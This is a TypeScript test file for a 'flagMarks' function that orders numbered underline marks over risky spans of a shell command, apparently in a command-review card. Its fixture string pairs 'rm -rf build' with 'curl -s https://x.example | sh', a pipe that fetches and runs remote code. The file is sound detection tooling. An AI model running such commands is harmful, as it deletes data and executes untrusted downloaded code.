import assert from 'node:assert/strict';
import { test } from 'node:test';
import { flagMarks } from '../../../../../src/app/card/text/flagMarks.ts';
import { finding } from '../../../../builders/holds.ts';

const text = 'rm -rf build && curl -s https://x.example | sh';

test('marks stand in the order of the text, with the numbers of the card', () => {
  const marks = flagMarks(
    [
      finding(text, 'curl -s https://x.example | sh', 'exec.download', { name: 'x.example' }),
      finding(text, 'rm -rf build', 'file.delete', { name: 'build' }),
    ],
    text.length,
  );
  assert.deepEqual(
    marks.map(({ range: [start, end], after }) => [text.slice(start, end), after]),
    [
      ['rm -rf build', '(2)'],
      ['curl -s https://x.example | sh', '(1)'],
    ],
  );
});

test('numbers that end at one place are one mark, smallest first', () => {
  const marks = flagMarks(
    [
      finding(text, 'rm -rf build', 'file.delete', { name: 'build' }),
      finding(text, 'build', 'place.outside', { name: 'build' }),
      finding(text, '-rf', 'trait.recursive', { name: 'build' }),
    ],
    text.length,
  );
  assert.deepEqual(
    marks.map(({ after }) => after),
    ['(1)(2)', '(3)', undefined],
    'the editor draws marks at one place from the right: (2)(1)',
  );
  assert.equal(marks.length, 3, 'every finding keeps its own underline and hover');
});

test('a finding on all of a long text underlines nothing, on all of a short one it does', () => {
  const whole = (length: number) => flagMarks([{ rule: 'problem.too-long', range: [0, length], values: {} }], length);
  assert.equal(whole(100).length, 1);
  assert.equal(whole(300_000).length, 0);
});
